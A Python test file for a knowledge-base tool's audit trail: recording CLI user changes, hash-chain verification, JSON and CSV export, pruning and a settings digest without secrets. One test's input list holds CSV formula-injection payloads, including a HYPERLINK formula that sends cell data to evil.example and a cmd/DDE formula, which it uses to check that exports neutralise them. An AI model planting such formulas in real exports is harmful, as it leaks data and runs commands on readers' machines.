"""The audit trail as the CLI and the services write it, on SQLite and PostgreSQL: `kb users`
changes and tokens recorded under "cli:<os user>", `kb audit verify` exiting 1 with the first
bad record's number, and with `--expect` checking a head kept outside; `kb audit export` in
JSON lines and CSV within --since/--until (spreadsheet formulas neutralised), printing the head
to keep; `kb audit prune`; the writer thread's batches; the settings' digest without secrets."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from core.config import Settings, load_settings
from core.settings.auth import AuditSettings
from store.ledger import AuditEntry, Ledger
from ui.audit import AuditTrail, cli_actor, export_lines, parse_when, settings_digest
from ui.cli import main

REPO = Path(__file__).resolve().parents[2]


def kb(args: list[str], store: Path, ledger_url: str, stdin: str | None = None) -> Any:
    env = {"KB_STORE_LEDGER_URL": ledger_url} if ledger_url else {}
    return CliRunner().invoke(main, [*args, "--store", str(store)], input=stdin, env=env)


def open_ledger(store: Path, ledger_url: str) -> Ledger:
    return Ledger(ledger_url or store / "ledger.sqlite")


def signins(store: Path, ledger_url: str, n: int, *sql: str) -> None:
    """`n` sign-ins of alice in the store's trail, then `sql` run on its ledger."""
    ledger = open_ledger(store, ledger_url)
    try:
        ledger.append_audit([AuditEntry(time.time(), "alice", "10.0.0.7", "signin", "alice")
                             for _ in range(n)])
        for statement in sql:
            ledger.db.execute(statement)
    finally:
        ledger.close()


def test_cli_changes_are_recorded_and_verified(tmp_path: Path, ledger_url: str) -> None:
    store = tmp_path / "store"
    for args, stdin in ((["users", "add", "bob", "--groups", "all,hr", "--password-stdin"],
                         "bob-password\n"),
                        (["users", "token", "bob", "--days", "2"], None),
                        (["users", "groups", "bob", "all"], None),
                        (["users", "revoke-token", "bob"], None),
                        (["users", "disable", "bob"], None)):
        result = kb(args, store, ledger_url, stdin)
        assert result.exit_code == 0, result.output
    ledger = open_ledger(store, ledger_url)
    try:
        records = list(ledger.audit_records())
    finally:
        ledger.close()
    assert [r.event for r in records] == ["user.add", "token.create", "user.groups",
                                          "token.revoke", "user.disable"]
    assert {r.actor for r in records} == {cli_actor()} and cli_actor().startswith("cli:")
    assert all(r.object == "bob" and r.address == "local" for r in records)
    assert json.loads(records[0].details) == {"admin": False, "groups": ["all", "hr"]}
    token = kb(["users", "token", "bob"], store, ledger_url).output.split()[0]
    assert all(token not in r.details for r in records)  # never a secret

    verified = kb(["audit", "verify"], store, ledger_url)
    assert verified.exit_code == 0 and "6 records verified" in verified.output, verified.output


def test_verify_exits_1_naming_the_first_bad_record(tmp_path: Path, ledger_url: str) -> None:
    store = tmp_path / "store"
    signins(store, ledger_url, 6, "UPDATE audit SET address = '10.0.0.8' WHERE seq = 3",
            "DELETE FROM audit WHERE seq = 5")
    result = kb(["audit", "verify"], store, ledger_url)
    assert result.exit_code == 1
    assert "BROKEN at record 3: record 3 edited" in result.output, result.output


def test_export_formats_and_times(tmp_path: Path, ledger_url: str) -> None:
    store = tmp_path / "store"
    ledger = open_ledger(store, ledger_url)
    day = parse_when("2026-01-15")
    assert day is not None
    try:
        ledger.append_audit([AuditEntry(day - 86400, "a", "1.1.1.1", "signin", "a"),
                             AuditEntry(day + 3600, "b", "2.2.2.2", "document.upload",
                                        "x, \"y\".pdf", "ok", {"groups": ["hr"]}),
                             AuditEntry(day + 86400 * 2, "c", "", "export", "gaps")])
    finally:
        ledger.close()
    jsonl = kb(["audit", "export", "--since", "2026-01-15", "--until", "2026-01-16"], store,
               ledger_url)
    assert jsonl.exit_code == 0, jsonl.output
    lines = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [r["actor"] for r in lines] == ["b"]
    assert lines[0]["time"] == "2026-01-15T01:00:00.000000+00:00"
    assert json.loads(lines[0]["details"]) == {"groups": ["hr"]} and len(lines[0]["hash"]) == 64
    table = kb(["audit", "export", "--format", "csv"], store, ledger_url)
    rows = list(csv.DictReader(io.StringIO(table.stdout)))
    assert [r["actor"] for r in rows[:3]] == ["a", "b", "c"]
    assert rows[3]["event"] == "audit.export" and rows[3]["object"] == "jsonl"  # the first
    assert rows[1]["object"] == 'x, "y".pdf' and rows[1]["seq"] == "2"
    # the exports are on record too, and the chain still verifies
    ledger = open_ledger(store, ledger_url)
    try:
        exports = list(ledger.audit_records(event="audit.export"))
        assert [r.object for r in exports] == ["jsonl", "csv"]
        assert ledger.verify_audit().ok
    finally:
        ledger.close()
    bad = kb(["audit", "export", "--since", "last tuesday"], store, ledger_url)
    assert bad.exit_code != 0 and "not a date" in bad.output


def test_verify_checks_a_head_kept_outside(tmp_path: Path, ledger_url: str) -> None:
    store = tmp_path / "store"
    signins(store, ledger_url, 4)
    exported = kb(["audit", "export"], store, ledger_url)  # record 5: the export itself
    assert exported.exit_code == 0
    kept = exported.stderr.split("kb audit verify --expect ")[1].split(")")[0]
    seq, digest = kept.split(":")
    assert seq == "5" and len(digest) == 64 and kept not in exported.stdout
    ok = kb(["audit", "verify", "--expect", f"5:{digest[:12].upper()}"], store, ledger_url)
    assert ok.exit_code == 0 and f"through 5:{digest[:12].upper()}; head {kept}" in ok.output

    # the tail and the stored head deleted together
    signins(store, ledger_url, 0, "DELETE FROM audit WHERE seq >= 4",
            "DELETE FROM meta WHERE key = 'audit_head'")
    assert kb(["audit", "verify"], store, ledger_url).exit_code == 0
    cut = kb(["audit", "verify", "--expect", kept], store, ledger_url)
    assert cut.exit_code == 1, cut.output
    assert "BROKEN at record 4: records 4..5 deleted from the end" in cut.output
    wrong = kb(["audit", "verify", "--expect", "5:abc"], store, ledger_url)
    assert wrong.exit_code == 2 and "at least 12 hex digits" in wrong.output


# Text a login form, a proxy header, a source view or a file name can carry into the trail
# (security re-test 3, finding 8), and cells of every field that starts like a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "-2+3",
            "+1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_csv_exports_neutralise_formulas(tmp_path: Path, ledger_url: str) -> None:
    store = tmp_path / "store"
    ledger = open_ledger(store, ledger_url)
    try:
        ledger.append_audit([AuditEntry(time.time(), text, text, text, text, text,
                                        {"name": text}) for text in FORMULAS])
    finally:
        ledger.close()
    table = kb(["audit", "export", "--format", "csv"], store, ledger_url)
    assert table.exit_code == 0, table.output
    rows = list(csv.DictReader(io.StringIO(table.stdout)))[:len(FORMULAS)]
    for row, text in zip(rows, FORMULAS, strict=True):
        for field in ("actor", "address", "event", "object", "outcome"):
            assert row[field] == "'" + text, (field, row[field])
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    lines = kb(["audit", "export"], store, ledger_url).stdout.splitlines()  # JSON: verbatim
    assert [json.loads(line)["actor"] for line in lines[:len(FORMULAS)]] == FORMULAS


def test_prune_from_the_command_line(tmp_path: Path, ledger_url: str) -> None:
    store = tmp_path / "store"
    ledger = open_ledger(store, ledger_url)
    try:
        old = time.time() - 100 * 86400
        ledger.append_audit([AuditEntry(old, "a", "", "signin", "a") for _ in range(4)])
        ledger.append_audit([AuditEntry(time.time(), "b", "", "signin", "b")])
    finally:
        ledger.close()
    result = kb(["audit", "prune", "--keep-days", "30"], store, ledger_url)
    assert result.exit_code == 0 and "4 audit records pruned" in result.output, result.output
    assert "audit head 6:" in result.stderr  # the prune's own record
    verified = kb(["audit", "verify"], store, ledger_url)
    assert verified.exit_code == 0 and "from the checkpoint after record 4" in verified.output


def test_the_writer_thread_batches_and_close_writes_the_rest(tmp_path: Path) -> None:
    ledger = Ledger(tmp_path / "ledger.sqlite")
    trail = AuditTrail(ledger, flush_s=0.05)
    try:
        for i in range(50):
            trail.soon("source.view", "bob", object=f"c{i}", kind="page")
        deadline = time.monotonic() + 5
        while len(list(ledger.audit_records())) < 50 and time.monotonic() < deadline:
            time.sleep(0.02)
        assert [r.object for r in ledger.audit_records()] == [f"c{i}" for i in range(50)]
        trail.soon("source.view", "bob", object="last")
        trail.record("signin", "bob", object="bob")  # written now, after what waited
        assert [r.object for r in ledger.audit_records()][-2:] == ["last", "bob"]
        trail.soon("signout", "bob")
        trail.close()
        assert [r.event for r in ledger.audit_records()][-1] == "signout"
        assert ledger.verify_audit().ok
        off = AuditTrail(ledger, AuditSettings(enabled=False))
        off.record("signin", "x")
        off.soon("signin", "x")
        off.close()
        assert len(list(ledger.audit_records())) == 53
    finally:
        trail.close()
        ledger.close()


def test_the_settings_digest_leaves_secrets_out() -> None:
    settings = load_settings(REPO / "config.toml", environ={})
    secret = dataclasses.replace(settings, ui=dataclasses.replace(settings.ui,
                                                                  metrics_token="s3cret-token"))
    digest, shown = settings_digest(settings)
    assert settings_digest(secret)[0] == digest  # a secret changes nothing
    assert "ui.metrics_token" not in shown and "store.ledger_url" not in shown
    assert "s3cret-token" not in json.dumps(settings_digest(secret)[1])
    other = dataclasses.replace(settings, ui=dataclasses.replace(settings.ui, port=9999))
    assert settings_digest(other)[0] != digest and shown["ui.port"] == 7860


def test_export_lines_and_times_are_pure() -> None:
    assert parse_when("") is None and parse_when("1700000000") == 1700000000.0
    assert parse_when("2026-01-31") == 1769817600.0
    assert parse_when("2026-01-31T08:00+08:00") == 1769817600.0
    with pytest.raises(ValueError, match="jsonl or csv"):
        list(export_lines([], "xml"))
    assert "".join(export_lines([], "csv")).startswith("seq,time,actor,address,event")


def test_settings_have_an_audit_section() -> None:
    settings: Settings = load_settings(REPO / "config.toml", environ={"KB_AUDIT_KEEP_DAYS": "30"})
    assert settings.audit.enabled and settings.audit.keep_days == 30.0


def test_serve_records_its_settings_and_prunes(make_settings: Any) -> None:
    from ui.web.server import record_start
    from ui.wiring import open_services

    settings = make_settings()
    services = open_services(settings)
    try:
        ledger = services.store.ledger
        ledger.append_audit([AuditEntry(time.time() - 400 * 86400, "a", "", "signin", "a")])
        record_start(services, demo=False)
        records = list(ledger.audit_records())
        start = next(r for r in records if r.event == "settings")
        assert start.object == settings_digest(settings)[0] and start.actor == cli_actor()
        assert json.loads(start.details)["settings"]["ui.port"] == settings.ui.port
        assert [r.event for r in records][-1] == "audit.prune"  # the 400-day-old record went
        assert ledger.audit_checkpoint() is not None and ledger.verify_audit().ok
    finally:
        services.close()
